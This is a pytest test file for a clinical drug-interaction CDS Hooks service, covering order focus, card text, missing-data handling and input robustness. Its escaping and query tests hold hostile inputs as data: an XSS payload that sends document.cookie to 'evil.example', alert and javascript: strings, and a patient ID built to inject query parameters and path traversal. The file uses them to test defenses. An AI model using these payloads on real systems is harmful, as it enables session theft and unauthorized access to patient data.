"""The pure CDS Hooks logic (interactions.cdshooks), called in-process: focus, cards, data handling."""

from __future__ import annotations

import copy
import json
from datetime import date
from pathlib import Path

import pytest

from interactions import cdshooks

AS_OF = date(2026, 1, 1)
RXNORM = "http://www.nlm.nih.gov/research/umls/rxnorm"


def med(rtype, rid, text, status="draft"):
    resource = {"resourceType": rtype, "status": status, "medicationCodeableConcept": {"text": text}}
    if rid:
        resource["id"] = rid
    if rtype == "MedicationRequest":
        resource["intent"] = "order"
    return resource


def searchset(*resources):
    return {"resourceType": "Bundle", "type": "searchset", "entry": [{"resource": r} for r in resources]}


PREFETCH = {
    "patient": {"resourceType": "Patient", "id": "p1", "birthDate": "1950-01-01"},
    "medications": searchset(med("MedicationRequest", "lz", "lorazepam 1 mg", status="active")),
    "statements": None,
    "egfr": None,
}


def body(hook, entries, selections=None, prefetch=None):
    context = {"userId": "Practitioner/1", "patientId": "p1", "draftOrders": {"resourceType": "Bundle", "entry": entries}}
    if hook == "order-select":
        context["selections"] = selections or []
    return {"hook": hook, "hookInstance": "5b5f1d49-3f7b-4a8e-9e57-0c1f4f1e2a10", "context": context,
            "prefetch": copy.deepcopy(PREFETCH if prefetch is None else prefetch)}


def summaries(index, hook, data):
    result = cdshooks.handle(index, f"interactions-{hook}", data, AS_OF)
    return [c["summary"] for c in result["cards"]]


OPIOID_BENZO = "Major: Opioid with a benzodiazepine (lorazepam, oxycodone)"


@pytest.mark.parametrize(
    "entry, selection",
    [
        ({"resource": med("MedicationRequest", "r1", "oxycodone 5 mg")}, "MedicationRequest/r1"),
        ({"resource": med("MedicationOrder", "o1", "oxycodone 5 mg")}, "MedicationOrder/o1"),
        ({"fullUrl": "urn:uuid:0f6e4a52-7c2b-4d8e-9a51-2b7c9e3d1f00", "resource": med("MedicationRequest", None, "oxycodone 5 mg")},
         "urn:uuid:0f6e4a52-7c2b-4d8e-9a51-2b7c9e3d1f00"),
        ({"fullUrl": "urn:uuid:0f6e4a52-7c2b-4d8e-9a51-2b7c9e3d1f00", "resource": med("MedicationRequest", "r1", "oxycodone 5 mg")},
         "urn:uuid:0f6e4a52-7c2b-4d8e-9a51-2b7c9e3d1f00"),
        ({"fullUrl": "https://ehr.example/fhir/MedicationRequest/r1", "resource": med("MedicationRequest", "r1", "oxycodone 5 mg")},
         "https://ehr.example/fhir/MedicationRequest/r1"),
    ],
    ids=["r4-id", "dstu2-medication-order", "urn-uuid-without-id", "urn-uuid-with-id", "absolute-url"],
)
def test_a_selected_order_is_found_however_it_is_named(index, entry, selection):
    assert summaries(index, "order-select", body("order-select", [entry], [selection])) == [OPIOID_BENZO]
    # order-sign has no selections: every medication draft is in focus.
    assert summaries(index, "order-sign", body("order-sign", [entry])) == [OPIOID_BENZO]


def test_order_sign_warns_only_about_the_drafts(index):
    # Two active medications that interact with each other, and a DSTU2 draft that interacts with neither.
    prefetch = dict(PREFETCH, medications=searchset(med("MedicationOrder", "a", "oxycodone 5 mg", "active"), med("MedicationOrder", "b", "lorazepam 1 mg", "active")))
    assert summaries(index, "order-sign", body("order-sign", [{"resource": med("MedicationOrder", "n", "lisinopril 10 mg")}], prefetch=prefetch)) == []


def test_a_selection_of_a_non_medication_order_gives_no_card(index):
    entries = [{"resource": {"resourceType": "NutritionOrder", "id": "diet", "status": "draft"}}, {"resource": med("MedicationRequest", "r1", "oxycodone")}]
    assert summaries(index, "order-select", body("order-select", entries, ["NutritionOrder/diet"])) == []


def test_a_selection_that_names_no_draft_makes_the_check_incomplete(index):
    data = body("order-select", [{"resource": med("MedicationRequest", "r1", "oxycodone")}], ["MedicationRequest/r2"])
    result = cdshooks.handle(index, "interactions-order-select", data, AS_OF)
    assert [c["summary"] for c in result["cards"]] == ["Interaction check incomplete: not everything could be checked"]
    assert "- MedicationRequest/r2 was not found in context.draftOrders" in unescape(result["cards"][0]["detail"])


def test_a_selected_order_with_a_status_that_is_not_checked_makes_the_check_incomplete(index):
    data = body("order-select", [{"resource": med("MedicationRequest", "r1", "oxycodone", status="entered-in-error")}], ["MedicationRequest/r1"])
    result = cdshooks.handle(index, "interactions-order-select", data, AS_OF)
    assert [c["summary"] for c in result["cards"]] == ["Interaction check incomplete: not everything could be checked"]
    assert "- MedicationRequest/r1 (oxycodone): status entered-in-error" in unescape(result["cards"][0]["detail"])


# --- escaping ---------------------------------------------------------------------------


def unescape(text: str) -> str:
    """Read escaped text back as a CommonMark renderer shows it: backslash escapes and the five entities."""
    import html
    import re

    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text))


@pytest.mark.parametrize("text", [
    '<img src=x onerror="alert(1)">', "[click](https://evil.example/x)", "![i](http://e/x.png)", "www.evil.example", "a@b.example",
    "**bold** _it_ `code` ~~x~~", "# heading", "- item", "1. item", "> quote", "| a | b |", "&lt;b&gt;", "\\<b>", "javascript:alert(1)",
])
def test_escape_leaves_no_markup_and_reads_back_as_the_text(text):
    escaped = cdshooks.escape(text)
    assert "<" not in escaped and ">" not in escaped and '"' not in escaped
    assert not any(ch in escaped.replace("\\" + ch, "") for ch in "[]()*_`#|!~:")
    assert unescape(escaped) == text


def test_escape_makes_one_line_without_control_or_bidi_characters():
    assert cdshooks.escape("a\nb\r\nc\u2028d\u202ee\x00f\u200bg") == "a b  c d e f g"


def test_medication_text_is_escaped_in_the_incomplete_card(index):
    attack = '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> [see](https://evil.example)'
    prefetch = dict(PREFETCH, medications=searchset(med("MedicationRequest", "x<y>", attack, status="active")))
    result = cdshooks.handle(index, "interactions-order-select", body("order-select", [{"resource": med("MedicationRequest", "r1", "oxycodone")}], ["MedicationRequest/r1"], prefetch), AS_OF)
    (incomplete,) = [c for c in result["cards"] if c["summary"].startswith("Interaction check incomplete")]
    assert "<img" not in incomplete["detail"] and "](" not in incomplete["detail"]
    line = next(x for x in incomplete["detail"].splitlines() if "onerror" in x)
    assert unescape(line) == f"- {attack} (MedicationRequest/x<y>)"


# --- card uuids -------------------------------------------------------------------------


def test_card_uuids_are_stable_per_hook_instance_and_unique_per_answer(index):
    prefetch = dict(PREFETCH, medications=searchset(med("MedicationRequest", "a", "lorazepam", "active"), med("MedicationRequest", "b", "zolpidem", "active"),
                                                    med("MedicationRequest", "c", "zuranolonx", "active")))
    data = body("order-sign", [{"resource": med("MedicationRequest", "n", "oxycodone 5 mg")}], prefetch=prefetch)
    first = cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]
    assert len(first) >= 3
    ids = [c["uuid"] for c in first]
    assert len(set(ids)) == len(ids)
    assert [c["uuid"] for c in cdshooks.handle(index, "interactions-order-sign", copy.deepcopy(data), AS_OF)["cards"]] == ids
    data["hookInstance"] = "another-call"
    assert not set(ids) & {c["uuid"] for c in cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]}


def test_card_uuid_never_repeats_within_an_answer():
    taken: set = set()
    assert len({cdshooks.card_uuid("h", "same-rule|a,b", taken) for _ in range(5)}) == 5


# --- required and optional data ---------------------------------------------------------

OUTCOME = {"resourceType": "OperationOutcome", "issue": [{"severity": "error", "code": "not-found", "diagnostics": "Patient/p1 not found"}]}
BACLOFEN_DRAFT = [{"resource": med("MedicationRequest", "b", "baclofen 10 mg TID")}]


def refusal(index, hook, data):
    with pytest.raises(cdshooks.HookError) as info:
        cdshooks.handle(index, f"interactions-{hook}", data, AS_OF)
    return info.value.status, info.value.message


@pytest.mark.parametrize("value, fhir_server, message", [
    (None, None, "missing required prefetch medications: not in the prefetch, and no fhirServer to fetch it from"),
    (OUTCOME, None, "missing required prefetch medications: the prefetch was an OperationOutcome, and no fhirServer to fetch it from"),
    (OUTCOME, "https://ehr.example/fhir",
     "missing required prefetch medications: the prefetch was an OperationOutcome, and fhirServer is not a server this service is allowed to fetch from"),
])
def test_missing_required_data_is_412_naming_the_prefetch(index, value, fhir_server, message):
    data = body("order-sign", BACLOFEN_DRAFT)
    if value is None:
        del data["prefetch"]["medications"]
    else:
        data["prefetch"]["medications"] = value
    if fhir_server:
        data["fhirServer"] = fhir_server
    assert refusal(index, "order-sign", data) == (412, message)


def test_missing_optional_data_is_a_note_on_every_card(index):
    data = body("order-sign", BACLOFEN_DRAFT)
    data["prefetch"]["patient"] = OUTCOME
    del data["prefetch"]["egfr"]
    (card,) = cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]
    assert card["summary"] == "Moderate: Additive CNS depression (baclofen, lorazepam)"
    assert "**Not assessed:** age: the prefetch was an OperationOutcome, and no fhirServer to fetch it from" in card["detail"]
    assert "**Not assessed:** kidney function (eGFR): not in the prefetch, and no fhirServer to fetch it from" in card["detail"]


def test_missing_egfr_without_a_finding_says_what_was_not_assessed(index):
    data = body("order-sign", BACLOFEN_DRAFT, prefetch=dict(PREFETCH, medications=searchset()))
    data["prefetch"]["egfr"] = OUTCOME
    (card,) = cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]
    assert (card["summary"], card["indicator"]) == ("Not assessed: kidney function (eGFR)", "info")
    assert "- Baclofen with reduced kidney function\\: eGFR not given; baclofen is major when eGFR &lt; 60" in card["detail"]
    # With the eGFR known to be absent (null: the EHR has none), nothing was missing: no card.
    data["prefetch"]["egfr"] = None
    assert cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"] == []


@pytest.mark.parametrize("bundle, reason", [
    ({**searchset(), "link": [{"relation": "self", "url": "https://ehr.example/fhir/MedicationRequest?patient=p1"},
                              {"relation": "next", "url": "https://ehr.example/fhir/MedicationRequest?patient=p1&page=2"}]},
     "not all of its pages were received"),
    (searchset({"resourceType": "OperationOutcome", "issue": [{"severity": "error", "code": "too-costly"}]}), "the FHIR server reported an error in the search result"),
], ids=["next-page", "search-error"])
def test_a_medication_list_that_is_not_whole_makes_the_check_incomplete(index, bundle, reason):
    data = body("order-sign", BACLOFEN_DRAFT, prefetch=dict(PREFETCH, medications=bundle))
    (card,) = cdshooks.handle(index, "interactions-order-sign", data, AS_OF)["cards"]
    assert card["summary"] == "Interaction check incomplete: not everything could be checked"
    assert f"- prefetch medications: {reason}; medications in the rest were not checked" in card["detail"]


def test_queries_percent_encode_the_patient_id():
    data = body("order-sign", BACLOFEN_DRAFT, prefetch={})
    data["context"]["patientId"] = "p1&status=x#/../Patient/2?"
    queries = cdshooks.queries(cdshooks.prepare("interactions-order-sign", data))
    encoded = "p1%26status%3Dx%23%2F..%2FPatient%2F2%3F"
    assert queries == {
        "patient": f"Patient/{encoded}",
        "medications": f"MedicationRequest?patient={encoded}&status=active",
        "statements": f"MedicationStatement?patient={encoded}&status=active",
        "egfr": f"Observation?patient={encoded}&code=http://loinc.org|33914-3,http://loinc.org|48642-3,http://loinc.org|48643-1,http://loinc.org|62238-1,"
                "http://loinc.org|98979-8,http://loinc.org|77147-7&_sort=-date&_count=1",
    }


def test_queries_ask_a_dstu2_server_for_medication_orders():
    data = body("order-sign", [{"resource": med("MedicationOrder", "o", "baclofen")}], prefetch={"patient": None, "statements": None})
    queries = cdshooks.queries(cdshooks.prepare("interactions-order-sign", data))
    assert queries["medications"] == "MedicationOrder?patient=p1&status=active"
    assert queries["egfr"].endswith("&_sort:desc=date&_count=1")
    assert set(queries) == {"medications", "egfr"}


@pytest.mark.parametrize("patient_id", ["..", ".", "", "  "])
def test_a_patient_id_that_is_a_path_step_is_refused(index, patient_id):
    data = body("order-sign", BACLOFEN_DRAFT)
    data["context"]["patientId"] = patient_id
    status, _ = refusal(index, "order-sign", data)
    assert status == 400


def test_merge_page_keeps_every_entry_and_the_last_links():
    first = {**searchset(med("MedicationRequest", "a", "x")), "link": [{"relation": "next", "url": "u2"}]}
    second = {**searchset(med("MedicationRequest", "b", "y")), "link": [{"relation": "previous", "url": "u1"}]}
    merged = cdshooks.merge_page(first, second)
    assert [e["resource"]["id"] for e in merged["entry"]] == ["a", "b"]
    assert cdshooks.next_link(merged) is None and cdshooks.next_link(first) == "u2"


# --- replayed requests ------------------------------------------------------------------

REPLAY = sorted((Path(__file__).parent / "cdshooks").glob("*.json"))


@pytest.mark.parametrize("path", REPLAY, ids=[p.stem for p in REPLAY])
def test_replayed_request_bodies(index, path):
    case = json.loads(path.read_text(encoding="utf-8"))
    result = cdshooks.handle(index, case["service"], case["request"], date.today())
    assert [c["summary"] for c in result["cards"]] == case["expect"]
    ids = [c["uuid"] for c in result["cards"]]
    assert len(set(ids)) == len(ids)
    assert result == cdshooks.handle(index, case["service"], copy.deepcopy(case["request"]), date.today())  # same hookInstance, same answer


def test_the_replay_suite_covers_every_version_and_hook():
    cases = [json.loads(p.read_text(encoding="utf-8")) for p in REPLAY]
    shapes = {(p.stem.split("-")[0], c["request"]["hook"]) for p, c in zip(REPLAY, cases, strict=True)}
    assert shapes >= {("r4", "order-select"), ("r4", "order-sign"), ("stu3", "order-select"), ("dstu2", "order-select"), ("dstu2", "order-sign")}


# --- no request shape is a 500 ------------------------------------------------------------

ODD_VALUES = [None, 0, -1, 1e308, True, "", "x" * 300, "<img src=x onerror=alert(1)>", [], {}, [None], [5], {"resourceType": 5},
              {"resourceType": "Bundle", "entry": 5}, {"resourceType": "Bundle", "entry": [{"fullUrl": ["x"], "resource": {"resourceType": "Patient"}}]},
              {"resourceType": "OperationOutcome"}, {"resourceType": "Bundle", "link": [{"relation": "next", "url": 5}]}]


def _paths(node, prefix=()):
    yield prefix
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _paths(value, prefix + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _paths(value, prefix + (i,))


def _replaced(body, path, value):
    out = copy.deepcopy(body)
    if not path:
        return value
    node = out
    for step in path[:-1]:
        node = node[step]
    node[path[-1]] = value
    return out


@pytest.mark.parametrize("path", REPLAY, ids=[p.stem for p in REPLAY])
def test_no_mutation_of_a_real_request_raises_anything_but_a_hook_error(index, path):
    """Replace every node of a real request, in turn, with odd values: the answer is cards or a 4xx, never an exception."""
    case = json.loads(path.read_text(encoding="utf-8"))
    request = case["request"]
    for n, where in enumerate(_paths(request)):
        # Every node gets three of the odd values, a different three for neighbouring nodes: about 2,000 calls in all.
        for value in (ODD_VALUES[(n + k * 6) % len(ODD_VALUES)] for k in range(3)):
            try:
                result = cdshooks.handle(index, case["service"], _replaced(request, where, value), AS_OF)
            except cdshooks.HookError as exc:
                assert 400 <= exc.status < 500, (where, value, exc.message)
                continue
            assert isinstance(result["cards"], list), (where, value)
            json.dumps(result)


def test_an_error_repeats_at_most_a_little_of_the_request(index):
    data = body("order-sign", BACLOFEN_DRAFT)
    data["hook"] = "x" * 100_000
    status, message = refusal(index, "order-sign", data)
    assert status == 400 and len(message) < 160 and message.endswith("…")


def test_a_card_explains_in_a_sentence_first_and_keeps_the_rule_path_below(index):
    from interactions import check
    from interactions.cdshooks import card

    detail = card(check(["oxycodone 5 mg", "lorazepam 1 mg"], rules=index).findings[0], "c1")["detail"]
    assert detail.startswith("**An opioid with a benzodiazepine can cause profound sedation, respiratory depression, coma and death (boxed warning).**\n\n"
                             "**Why:** Oxycodone (opioid) taken with lorazepam (benzodiazepine).\n\n"
                             "**What to do:** Avoid the combination.")
    assert "**Rule path:**\n- oxycodone → opioid + benzodiazepine ← lorazepam\n" in detail
    assert "buprenorphine" not in detail  # the do-not-withhold note is for buprenorphine and methadone only
